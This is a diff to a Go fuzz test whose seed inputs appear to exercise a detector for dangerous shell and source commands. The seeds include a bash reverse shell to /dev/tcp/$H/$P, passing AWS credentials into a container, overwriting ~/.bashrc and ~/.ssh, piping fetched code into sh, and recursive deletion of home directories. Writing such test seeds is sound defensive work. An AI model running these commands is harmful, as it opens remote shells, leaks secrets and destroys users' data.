@@ -37,6 +37,7 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add("docker run --env-file ~/.aws/credentials -e TOKEN -e X=$Y alpine env; node --env-file=.env a.js")
 	f.Add("vault kv put -address=$A s/a @.env k=@/x; aws secretsmanager create-secret --secret-string file://x")
 	f.Add("git diff --output=~/.bashrc; git format-patch -o ~/.ssh HEAD~1")
+	f.Add(`ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"; rm -rf "${ROOT:?}/b" >&$fd; bash -i >& "/dev/tcp/$H/$P" 0>&1`)
 	// Source files, read unit by unit with their assembled command lines (planted.go).
 	f.Add("cat > src/a.js <<'EOF'\nconst c = `${t} -s ${u} | sh`;\nrequire('child_process').execSync(c);\nfor (const d of ['.ssh']) require('fs').rmSync(`${require('os').homedir()}/${d}`, {recursive: true});\nEOF")
 	f.Add("cat > bin/x <<'E'\n#!/usr/bin/env python3\nfor p in (Path.home(), Path('/t')):\n    shutil.rmtree(p)\nos.system(' '.join(['rm', chr(126)]))\nE")
